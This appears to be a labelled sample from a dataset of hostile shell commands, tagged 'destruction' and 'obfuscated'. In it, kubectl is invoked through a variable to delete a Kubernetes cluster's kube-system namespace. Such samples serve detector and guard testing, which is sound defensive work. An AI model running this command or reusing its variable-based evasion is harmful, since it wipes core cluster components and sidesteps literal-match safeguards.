# description: Calls kubectl through a variable to delete the kube-system namespace.
# family: destruction
# obfuscated: yes
K=kubectl
NS=kube-system
$K delete ns "$NS"
